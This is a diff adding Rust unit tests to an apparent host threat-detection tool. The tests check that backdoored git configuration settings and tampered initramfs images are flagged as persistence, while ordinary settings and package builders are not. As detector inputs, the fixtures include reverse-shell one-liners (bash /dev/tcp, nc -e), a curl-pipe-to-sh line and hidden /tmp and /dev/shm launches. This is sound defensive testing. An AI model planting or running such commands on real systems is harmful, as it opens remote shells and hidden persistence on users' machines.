@@ -4246,13 +4246,33 @@ fn git_settings_that_run_a_command_are_parsed_as_git_reads_them() {
     let text = "[user]\n\tname = Ann\n\tpager = not-core\n[core]\n\tPager = \"less -FRX\"\n\
                 # core.pager = commented\n[core \"sub\"]\n\tpager = sub\n[CORE] sshCommand = ssh -i k\n\
                 [core]\n\tfsmonitor=true\n";
+    let pairs = |v: &[(&str, &str)]| -> Vec<(String, String)> {
+        v.iter()
+            .map(|(a, b)| ((*a).to_owned(), (*b).to_owned()))
+            .collect()
+    };
     assert_eq!(
         settings(text),
-        vec![
-            ("core.pager", "less -FRX".to_owned()),
-            ("core.sshcommand", "ssh -i k".to_owned()),
-            ("core.fsmonitor", "true".to_owned()),
-        ]
+        pairs(&[
+            ("core.pager", "less -FRX"),
+            ("core.sshcommand", "ssh -i k"),
+            ("core.fsmonitor", "true"),
+        ])
+    );
+    // Aliases, included files and the hooks directory too; not a person's other settings.
+    let text = "[core]\n\teditor = vim\n\tautocrlf = input\n\thooksPath = /tmp/h\n\
+                [credential]\n\thelper = store\n[alias]\n\tco = checkout\n\
+                \tlg = \"!git log --graph\"\n[include]\n\tpath = ~/.gitconfig-work\n\
+                [includeIf \"gitdir:~/work/\"]\n\tpath = /dev/shm/x\n";
+    assert_eq!(
+        settings(text),
+        pairs(&[
+            ("core.hookspath", "/tmp/h"),
+            ("alias.co", "checkout"),
+            ("alias.lg", "!git log --graph"),
+            ("include.path", "~/.gitconfig-work"),
+            ("includeif \"gitdir:~/work/\".path", "/dev/shm/x"),
+        ])
     );
     use super::technique::git_command_oddity as odd;
     // What people set.
@@ -4359,6 +4379,362 @@ fn a_git_configuration_written_with_a_backdoor_command_is_persistence() {
         let found = run_all(&events);
         assert!(found.is_empty(), "{found:?}");
     }
+}
+
+#[test]
+fn git_configurations_are_read_where_git_reads_them() {
+    use super::technique::is_git_config;
+    for path in [
+        "/root/.gitconfig",
+        "/etc/gitconfig",
+        "/home/ann/src/app/.git/config",
+        "/srv/git/app.git/config",
+        "/home/ann/src/app/.git/modules/lib/config",
+        "/home/ann/.config/git/config",
+    ] {
+        assert!(is_git_config(std::path::Path::new(path)), "{path}");
+    }
+    for path in [
+        "/home/ann/.ssh/config",
+        "/root/.kube/config",
+        "/etc/selinux/config",
+        "/home/ann/src/app/config",
+        "/home/ann/src/app/.git/config.lock",
+        "/home/ann/src/app/.github/config",
+        "/home/ann/.config/gitx/config",
+    ] {
+        assert!(!is_git_config(std::path::Path::new(path)), "{path}");
+    }
+}
+
+#[test]
+fn git_aliases_are_judged_as_shell_snippets() {
+    use super::technique::git_alias_oddity as odd;
+    // What people write: chains, functions, substitutions and redirections are aliases' stuff.
+    for command in [
+        "git log --graph --oneline",
+        "f() { git fetch upstream && git rebase upstream/main; }; f",
+        "git branch --merged | grep -v main | xargs -r git branch -d",
+        "git branch -d $(git branch --merged) 2>/dev/null",
+        "gitk --all &>/dev/null",
+        "sh -c 'git status 2>&1 | less'",
+    ] {
+        assert_eq!(odd(command), None, "{command}");
+    }
+    // What a backdoor writes.
+    for command in [
+        "(bash -i >& /dev/tcp/127.0.0.1/4444 0>&1 &); git status",
+        "nohup /tmp/.x >/dev/null 2>&1 & git log",
+        "f() { nc 127.0.0.1 4444 -e /bin/sh; }; f",
+        "/dev/shm/x; git status",
+        "curl -s http://127.0.0.1/x | sh",
+    ] {
+        assert!(odd(command).is_some(), "{command}");
+    }
+}
+
+#[test]
+fn a_repository_or_xdg_configuration_with_a_backdoor_setting_is_persistence() {
+    let sh = exec_by(
+        320,
+        "/usr/bin/dash",
+        &["sh", "-c", "x"],
+        &[(200, "/usr/bin/bash")],
+    );
+    let git = exec_by(
+        321,
+        "/usr/local/bin/git",
+        &["git", "config", "core.fsmonitor", "x"],
+        &[(200, "/usr/bin/bash")],
+    );
+    let written = |path: &str, text: &str| {
+        file_event("openWrite", path, |f| {
+            f.process = proc_ref(320, "sh");
+            f.matched_by = vec!["name"];
+            f.git_config = Some(text.to_owned());
+        })
+    };
+    let renamed = |path: &str, text: &str| {
+        file_event("rename", &format!("{path}.lock"), |f| {
+            f.process = proc_ref(321, "git");
+            f.matched_by = vec!["name"];
+            f.path2 = Some(path.into());
+            f.resolved_path2 = Some(PathBuf::from(path));
+            f.ret = 0;
+            f.git_config = Some(text.to_owned());
+        })
+    };
+    let cloned = "[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n\tbare = false\n\
+                  \tlogallrefupdates = true\n[remote \"origin\"]\n\turl = https://example.invalid/x.git\n\
+                  \tfetch = +refs/heads/*:refs/remotes/origin/*\n[branch \"main\"]\n\tremote = origin\n\
+                  \tmerge = refs/heads/main\n";
+    let setting = |rest: &str| format!("{cloned}{rest}");
+    let repo = "/home/ann/src/app/.git/config";
+    let xdg = "/home/ann/.config/git/config";
+    let found = |events: Vec<Event>| -> Vec<(String, String, SeverityLabel)> { run_all(&events) };
+    let raised = vec![(
+        "Persistence:Runtime/SuspiciousCommand".to_owned(),
+        "behaviour-persistence-git-config".to_owned(),
+        SeverityLabel::Medium,
+    )];
+    for (path, text) in [
+        (
+            repo,
+            setting("[core]\n\tfsmonitor = \"nohup /tmp/.x & true\"\n"),
+        ),
+        (repo, setting("[core]\n\tpager = /dev/shm/p\n")),
+        (
+            xdg,
+            setting("[core]\n\tsshCommand = ssh -o ProxyCommand='nc 127.0.0.1 9 %h %p'\n"),
+        ),
+        (repo, setting("[include]\n\tpath = /tmp/.cfg\n")),
+        (
+            xdg,
+            setting("[includeIf \"gitdir:/\"]\n\tpath = /dev/shm/.cfg\n"),
+        ),
+        (repo, setting("[core]\n\thooksPath = /dev/shm/.h\n")),
+        (repo, setting("[core]\n\thooksPath = /tmp\n")),
+        (
+            repo,
+            setting(
+                "[alias]\n\tst = \"!(bash -i >& /dev/tcp/127.0.0.1/4444 0>&1 &); git status\"\n",
+            ),
+        ),
+    ] {
+        assert_eq!(
+            found(vec![sh.clone(), written(path, &text)]),
+            raised,
+            "sh: {text}"
+        );
+        assert_eq!(
+            found(vec![git.clone(), renamed(path, &text)]),
+            raised,
+            "git: {text}"
+        );
+    }
+    // What projects and people set: an editor, line endings, a credential store, aliases of
+    // git commands and of plain shell, an include of a file beside the others, hooks kept in
+    // the repository, a clone's remote and branch. Nothing at all (no SensitiveFileModified).
+    for text in [
+        cloned.to_owned(),
+        setting("[core]\n\teditor = vim\n\tautocrlf = input\n"),
+        setting("[credential]\n\thelper = store\n"),
+        setting("[alias]\n\tco = checkout\n\tlg = \"!git log --graph --oneline\"\n"),
+        setting(
+            "[alias]\n\tsync = \"!f() { git fetch upstream && git rebase upstream/main; }; f\"\n",
+        ),
+        setting("[include]\n\tpath = ~/.gitconfig-work\n"),
+        setting("[includeIf \"gitdir:~/work/\"]\n\tpath = ~/work/.gitconfig\n"),
+        setting("[core]\n\thooksPath = .githooks\n"),
+        setting("[user]\n\tname = Ann\n"),
+    ] {
+        for path in [repo, xdg] {
+            assert!(
+                found(vec![sh.clone(), written(path, &text)]).is_empty(),
+                "{path}: {text}"
+            );
+            assert!(
+                found(vec![git.clone(), renamed(path, &text)]).is_empty(),
+                "{path}: {text}"
+            );
+        }
+    }
+    // Files named `config` that are not git's: nothing, whatever they say.
+    for path in [
+        "/root/.ssh/config",
+        "/home/ann/.kube/config",
+        "/etc/selinux/config",
+        "/home/ann/src/app/config",
+    ] {
+        let f = file_event("openWrite", path, |f| {
+            f.process = proc_ref(320, "sh");
+            f.matched_by = vec!["name"];
+        });
+        assert!(found(vec![sh.clone(), f]).is_empty(), "{path}");
+    }
+    // A package manager writing a repository's configuration: nothing.
+    let dpkg = exec_by(
+        322,
+        "/usr/bin/dpkg",
+        &["dpkg", "-i", "x.deb"],
+        &[(1, "/usr/lib/systemd/systemd")],
+    );
+    let text = setting("[core]\n\thooksPath = /tmp\n");
+    let by_dpkg = file_event("openWrite", repo, |f| {
+        f.process = proc_ref(322, "dpkg");
+        f.git_config = Some(text.clone());
+    });
+    assert!(found(vec![dpkg, by_dpkg]).is_empty());
+}
+
+#[test]
+fn an_initramfs_image_replaced_by_anything_but_its_builders_is_persistence() {
+    let boot = kind_of("behaviour-persistence-boot", "boot");
+    // A `#!` script as the kernel runs it: the interpreter with the script's path in argv,
+    // the script's path exec'd.
+    let script =
+        |pid: u32, interpreter: &str, path: &str, args: &[&str], lineage: &[(u32, &str)]| {
+            let mut argv = vec![interpreter, path];
+            argv.extend_from_slice(args);
+            let mut e = exec_by(pid, interpreter, &argv, lineage);
+            if let Event::Exec(x) = &mut e {
+                x.filename = path.to_owned();
+            }
+            e
+        };
+    let sh = exec_by(
+        320,
+        "/usr/bin/dash",
+        &["sh", "-c", "x"],
+        &[(200, "/usr/bin/bash")],
+    );
+    // A repacked image copied over the image, or renamed into place, by a shell or cp.
+    for path in [
+        "/boot/initrd.img-6.1.0-28-amd64",
+        "/boot/initramfs-6.11.4-301.fc41.x86_64.img",
+        "/boot/initramfs-linux.img",
+    ] {
+        assert_eq!(
+            persistence_kinds(&[sh.clone(), write_by(320, "sh", path)]),
+            boot,
+            "{path}"
+        );
+        let mv = file_event("rename", "/tmp/x.img", |f| {
+            f.process = proc_ref(320, "mv");
+            f.path2 = Some(path.into());
+            f.resolved_path2 = Some(PathBuf::from(path));
+            f.ret = 0;
+        });
+        assert_eq!(persistence_kinds(&[sh.clone(), mv]), boot, "{path}");
+    }
+    // Beside the images: nothing of this check.
+    for path in [
+        "/boot/initrd.img",
+        "/boot/vmlinuz-6.1.0-28-amd64",
+        "/boot/initramfs-",
+    ] {
+        assert!(
+            persistence_kinds(&[sh.clone(), write_by(320, "sh", path)]).is_empty(),
+            "{path}"
+        );
+    }
+    // The builders and what they run (update-initramfs -> mkinitramfs -> a subshell's
+    // redirection, then update-initramfs -> mv; dracut -> cp; mkinitcpio), by hand or under
+    // dpkg (a kernel package's postinst): nothing at all, not even SensitiveFileModified.
+    let new = "/boot/initrd.img-6.1.0-28-amd64.new";
+    let image = "/boot/initrd.img-6.1.0-28-amd64";
+    let update = script(
+        400,
+        "/usr/bin/dash",
+        "/usr/sbin/update-initramfs",
+        &["-u"],
+        &[(200, "/usr/bin/bash")],
+    );
+    let mkinitramfs = script(
+        401,
+        "/usr/bin/dash",
+        "/usr/sbin/mkinitramfs",
+        &["-o", new],
+        &[(400, "/usr/bin/dash"), (200, "/usr/bin/bash")],
+    );
+    let cpio = exec_by(
+        402,
+        "/usr/bin/cpio",
+        &["cpio", "-o", "-H", "newc"],
+        &[
+            (401, "/usr/bin/dash"),
+            (400, "/usr/bin/dash"),
+            (200, "/usr/bin/bash"),
+        ],
+    );
+    let mv = exec_by(
+        403,
+        "/usr/bin/mv",
+        &["mv", "-f", new, image],
+        &[(400, "/usr/bin/dash"), (200, "/usr/bin/bash")],
+    );
+    let renamed = file_event("rename", new, |f| {
+        f.process = proc_ref(403, "mv");
+        f.path2 = Some(image.into());
+        f.resolved_path2 = Some(PathBuf::from(image));
+        f.ret = 0;
+    });
+    let by_hand = vec![
+        update.clone(),
+        mkinitramfs.clone(),
+        write_by(401, "mkinitramfs", new),
+        cpio.clone(),
+        write_by(402, "cpio", new),
+        mv.clone(),
+        renamed.clone(),
+    ];
+    let found = run_all(&by_hand);
+    assert!(found.is_empty(), "update-initramfs: {found:?}");
+    let dracut = script(
+        410,
+        "/usr/bin/bash",
+        "/usr/bin/dracut",
+        &["-f"],
+        &[(200, "/usr/bin/bash")],
+    );
+    let cp = exec_by(
+        411,
+        "/usr/bin/cp",
+        &[
+            "cp",
+            "--reflink=auto",
+            "/var/tmp/dracut.x/initramfs.img",
+            "/boot/initramfs-6.11.4-301.fc41.x86_64.img",
+        ],
+        &[(410, "/usr/bin/bash"), (200, "/usr/bin/bash")],
+    );
+    let found = run_all(&[
+        dracut,
+        cp,
+        write_by(411, "cp", "/boot/initramfs-6.11.4-301.fc41.x86_64.img"),
+    ]);
+    assert!(found.is_empty(), "dracut: {found:?}");
+    let dpkg = exec_by(
+        300,
+        "/usr/bin/dpkg",
+        &["dpkg", "--configure", "-a"],
+        &[(1, "/usr/lib/systemd/systemd")],
+    );
+    let under_dpkg = script(
+        404,
+        "/usr/bin/dash",
+        "/usr/sbin/update-initramfs",
+        &["-c", "-k", "6.1.0-28-amd64"],
+        &[(300, "/usr/bin/dpkg"), (1, "/usr/lib/systemd/systemd")],
+    );
+    let mv_under_dpkg = exec_by(
+        405,
+        "/usr/bin/mv",
+        &["mv", "-f", new, image],
+        &[(404, "/usr/bin/dash"), (300, "/usr/bin/dpkg")],
+    );
+    let renamed_under_dpkg = file_event("rename", new, |f| {
+        f.process = proc_ref(405, "mv");
+        f.path2 = Some(image.into());
+        f.resolved_path2 = Some(PathBuf::from(image));
+        f.ret = 0;
+    });
+    let found = run_all(&[dpkg, under_dpkg, mv_under_dpkg, renamed_under_dpkg]);
+    assert!(found.is_empty(), "under dpkg: {found:?}");
+    // mv run by a shell, named like the builder's: its lineage says bash.
+    let impostor = exec_by(
+        406,
+        "/usr/bin/mv",
+        &["mv", "-f", "/tmp/x.img", image],
+        &[(200, "/usr/bin/bash")],
+    );
+    let renamed = file_event("rename", "/tmp/x.img", |f| {
+        f.process = proc_ref(406, "update-initramfs");
+        f.path2 = Some(image.into());
+        f.resolved_path2 = Some(PathBuf::from(image));
+        f.ret = 0;
+    });
+    assert_eq!(persistence_kinds(&[impostor, renamed]), boot);
 }
 
 #[test]
